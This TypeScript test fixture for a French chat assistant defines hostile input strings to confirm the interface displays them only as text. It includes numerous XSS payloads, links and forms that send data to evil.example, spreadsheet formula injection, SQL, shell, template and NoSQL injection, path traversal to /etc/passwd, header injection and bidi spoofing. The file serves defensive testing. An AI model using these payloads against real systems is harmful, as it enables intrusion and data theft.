/**
 * Strings that try to be more than text: whoever says one, only text must be seen. Where one is alive, it calls
 * `__pwned()`, or one of the browser's dialogs. How a page is watched is hostile-watch.ts.
 */

export interface Hostile {
  /** Kind and number: what a failing test prints. */
  readonly name: string;
  readonly text: string;
  /** What is read where the little markup of replies is drawn; the text itself where this is absent. */
  readonly drawn?: string;
}

type Given = string | readonly [text: string, drawn: string];

/** Longest text that a person may send; longer ones are refused. */
export const LONGEST_SAID = 10_000;

const HTML: readonly Given[] = [
  '<script>__pwned()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '"><script>__pwned()</script>',
  "'><script>__pwned()</script>",
  '<img src=x onerror=__pwned()>',
  '<img src=x onerror="alert(1)">',
  '<IMG SRC=x OnErRoR=&#95;&#95;pwned()>',
  '<img/src=x/onerror=__pwned()//',
  '<img src="data:," onload=__pwned() onerror=__pwned()>',
  '<img srcset=x onerror=__pwned()>',
  '<svg onload=__pwned()>',
  '<svg/onload=__pwned()//',
  '<svg><script>__pwned()</script></svg>',
  '<svg><animate onbegin=__pwned() attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:__pwned() onbegin=__pwned()></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>__pwned()</script></svg>#x"></svg>',
  '<body onload=__pwned()>',
  '<body/onpageshow=__pwned()>',
  '<input autofocus onfocus=__pwned()>',
  '<textarea autofocus onfocus=__pwned()></textarea>',
  '<select autofocus onfocus=__pwned()></select>',
  '<details open ontoggle=__pwned()><summary>x</summary></details>',
  '<video src=x onerror=__pwned()></video>',
  '<video><source onerror=__pwned()></video>',
  '<audio src=x onerror=__pwned()></audio>',
  '<marquee onstart=__pwned()>x</marquee>',
  '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  '<iframe src=javascript:parent.__pwned()></iframe>',
  '<object data=javascript:__pwned()></object>',
  '<object data="data:text/html,<script>parent.__pwned()</script>"></object>',
  '<embed src=javascript:__pwned()>',
  '<form action=javascript:__pwned()><button>x</button></form>',
  '<form action=https://evil.example/><input name=nir><button>Continuer</button></form>',
  '<button formaction=javascript:__pwned()>x</button>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__pwned()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/x>',
  '<a href=javascript:__pwned()>x</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p">x</a>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<style>*{display:none!important}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<template shadowrootmode=open><script>__pwned()</script></template>',
  '<x onpointerover=__pwned() style=display:block>x</x>',
  '<sesame-chat open endpoint=https://evil.example></sesame-chat>',
  '<portal src=https://evil.example></portal>',
];

const PARSERS: readonly Given[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=__pwned()>">',
  '<noscript><p title="</noscript><img src=x onerror=__pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned()>',
  '<svg><title><a title="</title><img src=x onerror=__pwned()>"></a></title></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__pwned()></style></annotation-xml></math>',
  '<table><a href=javascript:__pwned()><td>x',
  '<!--><img src=x onerror=__pwned()>-->',
  '<![CDATA[<img src=x onerror=__pwned()>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>__pwned()</script></x>',
  '</script><img src=x onerror=__pwned()>',
  '</style><img src=x onerror=__pwned()>',
  '</textarea><img src=x onerror=__pwned()>',
  '</title><svg onload=__pwned()>',
  '</p></div></li></ol></main></body></html><img src=x onerror=__pwned()>',
  ']]><img src=x onerror=__pwned()>',
  '<<img src=x onerror=__pwned()>>',
  '<img src=x onerror=__pwned() ',
  '&lt;img src=x onerror=__pwned()&gt;',
  '&amp;lt;script&amp;gt;__pwned()&amp;lt;/script&amp;gt;',
  '\u003cimg src=x onerror=__pwned()\u003e et \\u003cscript\\u003e',
  '＜img src=x onerror=__pwned()＞',
  '<img\u0000 src=x onerror\u0000=__pwned()>',
  '<im\u200bg src=x onerror=__pwned()>',
];

const LINKS: readonly Given[] = [
  '[ici](javascript:__pwned())',
  '[ici](javascript:alert)',
  '[ici](JaVaScRiPt:alert`1`)',
  '[ici](java\tscript:alert`1`)',
  '[ici](java\nscript:alert`1`)',
  '[ici]( javascript:alert`1`)',
  '[ici](\u0001javascript:alert`1`)',
  '[ici](java\u0000script:alert`1`)',
  '[ici](javascript&colon;alert`1`)',
  '[ici](&#106;avascript:alert`1`)',
  '[ici](%6Aavascript:alert`1`)',
  '[ici](java\u200bscript:alert`1`)',
  '[ici](ｊavascript:alert`1`)',
  '[ici](data:text/html,<script>alert`1`</script>)',
  '[ici](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[ici](DATA:image/svg+xml,<svg/onload=alert`1`>)',
  '[ici](vbscript:msgbox`1`)',
  '[ici](VbScRiPt:msgbox`1`)',
  '[ici](blob:https://evil.example/1)',
  '[ici](file:///etc/passwd)',
  '[ici](//evil.example/x)',
  '[ici](http://evil.example/x)',
  '[ici](https://ameli.fr@evil.example/)',
  '[ici](https://:secret@evil.example/)',
  '[ici](view-source:https://evil.example)',
  '![ici](javascript:alert`1`)',
  '<javascript:alert`1`>',
  '[ici][1]\n\n[1]: javascript:alert`1`',
  '[<img src=x onerror=__pwned\u200b>](javascript:alert`1`)',
  ['[<img src=x onerror=alert`1`>](https://www.ameli.fr/)', '<img src=x onerror=alert`1`>'],
  ['[ici](https://www.ameli.fr/"onmouseover="alert`1`)', 'ici'],
  ["[ici](https://www.ameli.fr/'onclick='alert`1`')", 'ici'],
  ['[ici](https://www.ameli.fr/<script>alert`1`</script>)', 'ici'],
  ['[ici](mailto:aide@exemple.fr?subject=<svg/onload=alert`1`>)', 'ici'],
  ['[ici](tel:3646"onclick="alert`1`)', 'ici'],
  ['**<img src=x onerror=__pwned()>**', '<img src=x onerror=__pwned()>'],
  ['**[ici](javascript:alert`1`)**', '[ici](javascript:alert`1`)'],
  ['Liste :\n- <svg onload=__pwned()>\n- <script>__pwned()</script>', 'Liste :<svg onload=__pwned()><script>__pwned()</script>'],
];

const PLACES: readonly Given[] = [
  '{{constructor.constructor("__pwned()")()}}',
  '${__pwned()}',
  '#{__pwned()}',
  '<%= __pwned() %>',
  '{% include "/etc/passwd" %}{{7*7}}',
  '{name} {words} {date} {code} {minutes}',
  "$& $` $' $1 $$ $<name>",
  '@{__pwned()} *{7*7} [[${7*7}]]',
  '__proto__',
  '{"__proto__":{"pwned":true},"constructor":{"prototype":{"pwned":true}}}',
  'constructor.prototype.pwned=1',
  '<form id=document><input name=body><input name=addEventListener></form>',
  '<a id=labels></a><a id=labels name=send href=clobbered:1>x</a>',
  '<img name=currentScript src=x>',
  'hasOwnProperty toString valueOf',
  '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
  '+cmd|\'/C calc\'!A0',
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  "' OR '1'='1'; DROP TABLE conversations; --",
  '"; return true; var x="',
  '../../../../etc/passwd',
  '$(touch /tmp/pwned) `touch /tmp/pwned` ; | &',
  '{"$gt":""} {"$where":"sleep(1000)"}',
  'x\r\nSet-Cookie: sesame-aide=volé\r\n\r\n<script>__pwned()</script>',
  'x\r\n{"level":"info","event":"account.unlocked"}',
  'x\nSésame, 23/11/2026 10:00\nVotre compte est débloqué.',
  '\u001b[2J\u001b[31mrouge\u001b[0m\u001b]0;titre\u0007',
  'expression(__pwned());background:url(javascript:__pwned())',
  'red;}*{display:none}',
];

const CHARACTERS: readonly Given[] = [
  'Envoyez à \u202Erf.ilema\u202C tout de suite',
  'photo\u202Egnp.exe',
  '\u2067de droite à gauche\u2069 \u2066et retour',
  '\u202A\u202B\u202D\u2068imbriqués',
  'ouvert \u2066\u2067\u2068\u202D\u202E sans fin',
  '\u200Ezéro\u200Blargeur\u200C et\u200D \u2060\uFEFFinvisible',
  'nul\u0000 cloche\u0007 retour\u0008 saut\u000B page\u000C',
  'suppr\u007F et C1\u0085 \u009B31m fin',
  'seul \uD800 haut',
  'seul \uDC00 bas',
  'inversés \uDC00\uD800 fin',
  'ligne\u2028séparée\u2029paragraphe',
  'non-caractère \uFFFE \uFFFF \u{1FFFF} fin',
  'étiquette \u{E0041}\u{E0042}\u{E007F} fin',
  'عربي مع <b>HTML</b> و עברית',
  '👩\u200D👩\u200D👧\u200D👦🏳️\u200D🌈'.repeat(20),
  `Z${'\u0301\u0316\u0489'.repeat(1_000)} fin`,
  Array.from('Zalgo', (letter) => letter + '\u030d\u0353'.repeat(300)).join(''),
  'M'.repeat(900),
  'anticonstitutionnellement'.repeat(30),
  `https://www.exemple.fr/${'a'.repeat(800)}`,
  '\u00A0'.repeat(400) + 'insécables',
  `${'\t'.repeat(300)}tabulations`,
  `${'ligne\n'.repeat(300)}fin`,
  '*'.repeat(2_000),
  '['.repeat(2_000),
  `${'<b>'.repeat(600)}profond${'</b>'.repeat(600)}`,
  '\uFDFD'.repeat(120),
];

const LONG: readonly Given[] = ['Très long. <b>gras</b> '.repeat(4_400), '<'.repeat(100_000), '[a]('.repeat(25_000)];

function numbered(kind: string, given: readonly Given[]): Hostile[] {
  return given.map((one, at) => {
    const name = `${kind} ${String(at + 1)}`;
    return typeof one === 'string' ? { name, text: one } : { name, text: one[0], drawn: one[1] };
  });
}

/** The longest ones last, so that a page is slow only at the end. */
export const EVERY: readonly Hostile[] = [
  ...numbered('html', HTML),
  ...numbered('parser', PARSERS),
  ...numbered('link', LINKS),
  ...numbered('place', PLACES),
  ...numbered('character', CHARACTERS),
  ...numbered('long', LONG),
];

const ALL = process.env['SESAME_HOSTILE'] === 'all';

/** Three in five, a hundred and more, in a quick run; all of them with SESAME_HOSTILE=all (`npm run hostile`). */
export const HOSTILE: readonly Hostile[] = ALL ? EVERY : EVERY.filter((_one, at) => at % 5 < 3);

/** For a browser, which takes longer: one in four in a quick run, others for each door, each kind and a very long one among them. */
export function hostileFor(door: 'page' | 'widget'): readonly Hostile[] {
  const first = door === 'page' ? 0 : 1;
  return ALL ? EVERY : EVERY.filter((_one, at) => (EVERY.length - 1 - at) % 4 === first);
}

/** Names of fields that a form element has, or inherits, as properties; all could stand in a dialog. */
export const CLOBBERING = ['addEventListener', 'submit', 'action', 'method', 'elements', 'parentNode', 'childNodes', 'children', 'attributes', 'append', 'remove', 'replaceChildren', 'querySelector', 'setAttribute', 'nodeType', 'ownerDocument', 'constructor', 'hasOwnProperty', 'toString'];

/** What is left for the eye, so that two ways of drawing the same words are equal: no spaces, nothing invisible, no accents piled up. */
export function bare(text: string): string {
  return text.normalize('NFC').replace(/[\s\p{C}\p{M}\uFFFD]/gu, '');
}

/** Characters that turn the direction of what stands around them, those that are none, and marks piled up on one letter. */
export function strangersIn(text: string): string[] {
  const found = text.match(/[\u202A-\u202E\u2066-\u2069\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/g) ?? [];
  const named = found.map((one) => `U+${one.charCodeAt(0).toString(16).padStart(4, '0')}`);
  return [...new Set(named), ...(/\p{M}{9}/u.test(text) ? ['a pile of marks'] : [])];
}
